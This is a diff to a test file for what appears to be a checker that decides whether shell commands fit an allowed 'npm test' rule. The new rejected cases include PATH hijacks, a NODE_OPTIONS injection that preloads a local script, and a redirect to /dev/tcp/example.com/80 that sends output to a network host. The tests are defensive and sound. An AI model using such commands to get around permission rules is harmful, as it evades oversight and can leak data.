@@ -109,6 +109,16 @@ test.each([
   '# npm test',
   'true',
   "npm test 'unclosed",
+  "bash x.sh -c 'npm test'",
+  "bash -x x.sh -c 'npm test'",
+  "bash x.sh -s <<< 'npm test'",
+  'read PATH <<< /tmp; npm test',
+  'for PATH in /tmp; do npm test; done',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
+  ': ${NODE_OPTIONS:=-r./x.js}; npm test',
+  '((PATH=1)); npm test',
+  'set -k; npm test NODE_OPTIONS=-r./x.js',
+  'npm test > /dev/tcp/example.com/80',
 ])('not allowed: %j', (command) => expect(verdictOf(command)).toBe('none'));
 
 test('`Bash` alone allows all of it, known or not, but no deny', () => {
@@ -156,6 +166,13 @@ test('denies that nothing in a command can be leave it alone', () => {
     "sed -e 's|we|e w|2' -e '/^w /d' a.ts",
     "sed '/start/a\\\\\\n  e rm' a.ts",
     'command -v rm',
+    "bash -euo pipefail -c 'npm test'",
+    'while read -r command; do echo "$command"; done < a.txt',
+    'for shell in bash zsh; do command -v "$shell"; done',
+    'n=0; for i in 1 2; do n=$((n + i)); ((n += 1)); done; echo "$n"',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's, not ours
+    'name="it\'s ${USER:-me}"; echo "${name#\'a\'}"',
+    'check() { npm run "$1"; }; check build',
     'while read -r line; do echo "$line"; done < a.txt',
     'x=$(date +%s); echo "$x" > out',
     'git commit -m "$(cat <<\'EOF\'\nfix: a push; rm\nEOF\n)"',
